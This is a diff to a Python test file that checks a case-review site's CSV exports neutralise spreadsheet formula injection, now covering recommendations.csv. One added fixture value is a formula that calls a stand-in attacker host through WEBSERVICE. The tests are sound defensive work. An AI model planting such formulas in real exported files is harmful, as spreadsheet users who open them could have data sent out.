@@ -1,5 +1,5 @@
-"""Issue 13, finding 6: text that a spreadsheet would run as a formula is neutralised in reviews.csv and
-actions.csv (OWASP's CSV injection guidance), while numbers and dates stay as they are."""
+"""Issue 13, finding 6: text that a spreadsheet would run as a formula is neutralised in reviews.csv,
+actions.csv and recommendations.csv (OWASP's CSV injection guidance), while numbers and dates stay as they are."""
 
 from __future__ import annotations
 
@@ -13,6 +13,7 @@ from sitebuild import VOCABULARY, action_plan, front, review_meta, write_project
 from casereviews.build import Build
 from casereviews.outputs.actions_csv import write_actions_csv
 from casereviews.outputs.data import write_data
+from casereviews.outputs.recommendations import write_recommendations
 from casereviews.spreadsheet import FORMULA_STARTS, safe_cell
 
 AS_OF = {"REVIEWS_AS_OF": "2026-11-26T12:00:00+00:00"}
@@ -26,6 +27,7 @@ HOSTILE = {
     "note": "-Update note",
     "evidence": "@evidence",
     "agency": "+Police",
+    "recommendation": "=WEBSERVICE(\"https://evil.example/\") should be shared.",
 }
 
 
@@ -34,7 +36,7 @@ def written(tmp_path_factory):
     root = tmp_path_factory.mktemp("cells")
     vocabulary = json.loads(json.dumps(VOCABULARY))
     vocabulary["agencies"][0]["label"] = HOSTILE["agency"]
-    plan = action_plan([{"id": "R1", "text": "Share information.", "response": "accepted", "actions": [{
+    plan = action_plan([{"id": "R1", "text": HOSTILE["recommendation"], "response": "accepted", "actions": [{
         "id": "R1.1", "text": HOSTILE["action_text"], "lead": "police", "due": "2026-06-30",
         "updates": [{"date": "2025-01-10", "status": "in-progress", "note": HOSTILE["note"],
                      "evidence": HOSTILE["evidence"]}]}]}])
@@ -49,8 +51,9 @@ def written(tmp_path_factory):
     out = root / "out"
     write_data(build.site, out, {"site_url": "https://reviews.example.org/"})
     write_actions_csv(build.site, out, {"site_url": "https://reviews.example.org/"})
+    write_recommendations(build.site, out, {"site_url": "https://reviews.example.org/"})
     return {name: list(csv.DictReader(io.StringIO((out / "data" / name).read_text(encoding="utf-8-sig"))))
-            for name in ("reviews.csv", "actions.csv")}
+            for name in ("reviews.csv", "actions.csv", "recommendations.csv")}
 
 
 def test_no_cell_of_either_file_can_start_a_formula(written):
@@ -75,6 +78,10 @@ def test_text_is_kept_with_a_quote_in_front(written):
     assert action["evidence"] == "'@evidence"
     assert action["lead_label"] == "'+Police"
     assert action["review_title"] == "'" + HOSTILE["title"]
+    recommendation = written["recommendations.csv"][0]
+    assert recommendation["text"] == "'" + HOSTILE["recommendation"]
+    assert recommendation["review_title"] == "'" + HOSTILE["title"]
+    assert recommendation["agencies"] == "'+Police"
 
 
 def test_numbers_and_dates_are_untouched(written):
